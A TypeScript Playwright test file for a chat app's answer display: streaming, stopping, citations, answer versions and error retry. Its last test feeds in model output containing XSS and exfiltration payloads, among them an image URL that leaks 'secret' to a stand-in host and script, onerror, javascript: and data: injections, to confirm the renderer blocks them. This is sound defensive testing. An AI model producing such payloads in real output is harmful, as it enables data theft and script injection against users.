import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';
import type { Page } from 'playwright-core';
import { upload } from '../api-client.ts';
import { answer } from '../fakes/language-model-server.ts';
import { waitUntil } from '../wait-until.ts';
import { answered, askInPage, type BrowserTest, takePicture } from './browser/browser-test.ts';

const words = (count: number) => Array.from({ length: count }, (_, at) => `word${at}`).join(' ');
const handbook = 'Backups are kept for 30 days. Only the platform team may restore them.';

const answers = (page: Page) => page.locator('article');

export function testAnswers(browser: BrowserTest): void {
  describe('answers', () => {
    before(async () => {
      await upload(browser.app, handbook, 'handbook.txt');
    });

    test('a reload in the middle of an answer goes on with it, with no gap and no repetition', async () => {
      const text = words(150);
      browser.model.script(answer(text, { tokensPerSecond: 60 }));
      const page = await browser.visit('/');
      await askInPage(page, 'How long are backups kept?');
      await answers(page)
        .getByText(/word10 /)
        .waitFor();
      await takePicture(page, 'streaming');
      await page.reload();
      await answers(page)
        .getByText(/word10 /)
        .waitFor();
      await answered(page);
      assert.equal((await answers(page).locator('p').first().innerText()).trim(), text);
    });

    test('Escape stops the answer; what there is stays', async () => {
      browser.model.script(answer(words(2_000), { tokensPerSecond: 30 }));
      const page = await browser.visit('/');
      await askInPage(page, 'How long?');
      await answers(page)
        .getByText(/word5 /)
        .waitFor();
      await page.keyboard.press('Escape');
      await page.getByText('You stopped this answer.').waitFor();
      assert.match(await answers(page).innerText(), /word5 /);
      await waitUntil(
        'the model is told',
        () => browser.model.openConnections() === 0 || browser.model.requests.length > 0,
      );
      assert.equal(await browser.model.requests.at(-1)?.closed, 'aborted');
    });

    test('what is pressed stays under the pointer while the text goes on', async () => {
      const before = `${words(400)}.\n\nBackups are kept for 30 days. [1]`;
      const goOn = Promise.withResolvers<void>();
      const pause = { tokens: before.split(/\s+/).length + 5, until: goOn.promise };
      browser.model.script(answer(`${before}\n\n${words(300)}`, { tokensPerSecond: 1_000, pause }));
      const page = await browser.visit('/');
      await askInPage(page, 'How long are backups kept?');
      const citation = answers(page).getByRole('button', { name: /^Source 1: / });
      await citation.hover();
      await page.mouse.down();
      goOn.resolve();
      // Behind the last paragraph of a whole answer stands which numbers are to be checked.
      await answers(page)
        .locator('p')
        .nth(2)
        .getByText(/word250 /)
        .waitFor();
      await page.mouse.up();
      await page.getByRole('complementary', { name: 'Source' }).waitFor();
      await answered(page);
      await answers(page)
        .getByText(/word299$/)
        .waitFor();
    });

    test('an answer goes on while another chat is looked at', async () => {
      browser.model.script(answer(words(60), { tokensPerSecond: 30 }));
      const page = await browser.visit('/');
      await askInPage(page, 'A long question');
      await answers(page)
        .getByText(/word3 /)
        .waitFor();
      await page.getByRole('button', { name: 'New chat' }).first().click();
      await page.getByRole('heading', { name: 'What would you like to know?' }).waitFor();
      await page.goBack();
      await answered(page);
      assert.match(await answers(page).innerText(), /word59/);
    });

    test('a question asked in other words and an answer given anew are versions, all reachable', async () => {
      browser.model.script(answer('First answer.'), answer('Second answer.'), answer('Third answer.'));
      const page = await browser.visit('/');
      await askInPage(page, 'Original question');
      await answered(page);
      await page.getByRole('button', { name: 'Answer again' }).click();
      await answers(page).getByText('Second answer.').waitFor();
      await answered(page);
      await page.getByText('2 of 2').waitFor();
      await page.getByRole('button', { name: 'Edit the question' }).click();
      await page.getByRole('textbox', { name: 'Edit the question' }).fill('Other question');
      await page.keyboard.press('Enter');
      await answers(page).getByText('Third answer.').waitFor();
      await answered(page);
      assert.equal(await answers(page).count(), 1);
      await page.getByRole('button', { name: 'Version before' }).first().click();
      await answers(page).getByText('Second answer.').waitFor();
      await page.getByRole('button', { name: 'Version before' }).last().click();
      await answers(page).getByText('First answer.').waitFor();
      await page.getByText('Original question').first().waitFor();
    });

    test('a failure says what happened and can be tried again', async () => {
      browser.model.script({ kind: 'status', status: 401 }, answer('It works again.'));
      const page = await browser.visit('/');
      await askInPage(page, 'Will it fail?');
      const alert = page.getByRole('alert');
      await alert.getByText('The answer could not be completed').waitFor();
      await takePicture(page, 'failed');
      await alert.getByRole('button', { name: 'Try again' }).click();
      await answers(page).getByText('It works again.').waitFor();
    });

    test('what an answer or a document says can load nothing and run nothing', async () => {
      const evil = [
        '![leak](https://127.0.0.9/leak?d=secret) <img src="https://127.0.0.9/x" onerror="alert(1)">',
        '<script>alert(2)</script> [click](javascript:alert(3)) [data](data:text/html,<script>alert(4)</script>)',
        '[ok](https://example.com/) and [1]',
        '',
        '[1]: https://127.0.0.9/citation',
      ].join('\n');
      browser.model.script(answer(evil));
      const page = await browser.visit('/');
      page.on('dialog', dialog => {
        assert.fail(`a dialog: ${dialog.message()}`);
      });
      await askInPage(page, 'Say something evil');
      await answered(page);
      assert.equal(await answers(page).locator('img, script, iframe').count(), 0);
      const links = await answers(page)
        .locator('a')
        .evaluateAll((all: { href: string }[]) => all.map(({ href }) => href));
      for (const link of links) assert.match(link, /^https:\/\/example\.com\//);
    });
  });
}
